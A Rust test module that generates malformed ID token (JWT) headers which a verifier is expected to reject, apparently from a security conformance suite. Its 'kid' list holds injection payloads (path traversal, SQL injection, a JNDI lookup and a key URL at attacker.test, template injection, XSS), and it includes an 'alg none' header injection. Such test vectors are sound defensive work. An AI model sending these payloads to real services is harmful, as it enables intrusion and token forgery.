//! Header members of the ID token (RFC 7515 §4.1). The signature over them is honest.

use serde_json::{Value, json};

use super::Attack;

/// Values of `kid` that try to be something else than a name.
fn hostile_key_ids() -> Vec<Value> {
    vec![
        json!("an unknown key"),
        json!(""),
        json!("../../../../dev/null"),
        json!("' OR 1=1--"),
        json!("\0"),
        json!("http://attacker.test/key"),
        json!("{{7*7}}"),
        json!("${jndi:ldap://attacker.test/a}"),
        json!("<script>alert(1)</script>"),
        json!("k".repeat(8 * 1024)),
        json!({"kid": "object"}),
        json!(["upstream-key-1"]),
        json!(7),
        json!(true),
    ]
}

/// Headers that a verifier must refuse although the signature fits.
pub(crate) fn id_token_headers() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for kid in hostile_key_ids() {
        attacks.push(set("kid", &kid));
    }
    // RFC 7515 §4.1.11: an extension that is not understood makes the token invalid.
    for crit in [json!(["x"]), json!([]), json!("exp"), json!(["b64"]), json!([7])] {
        attacks.push(set("crit", &crit));
    }
    attacks.push(Attack::new("header b64 = false, critical", |lies| {
        lies.header.set("b64", false).set("crit", json!(["b64"]));
    }));
    attacks.push(set("b64", &json!(false)));
    for alg in [json!("RS512"), json!("rs256"), json!("ES256"), json!("XX256"), json!(["RS256"])] {
        attacks.push(set("alg", &alg));
    }
    // RFC 8725 §3.11: a token of another kind is no ID token.
    for typ in ["at+jwt", "logout+jwt", "dpop+jwt"] {
        attacks.push(set("typ", &json!(typ)));
    }
    attacks.push(Attack::new("header alg twice", |lies| {
        lies.rewrite_header(|text| text.replacen('{', "{\"alg\":\"none\",", 1));
    }));
    attacks.push(set("padding", &json!("x".repeat(200 * 1024))));
    attacks.push(Attack::new("header is an array", |lies| {
        lies.rewrite_header(|text| format!("[{text}]"));
    }));
    attacks
}

fn set(name: &'static str, value: &Value) -> Attack {
    let value = value.clone();
    let mut shown = value.to_string();
    shown.truncate(60);
    Attack::new(format!("header {name} = {shown}"), move |lies| {
        lies.header.set(name, value.clone());
    })
}
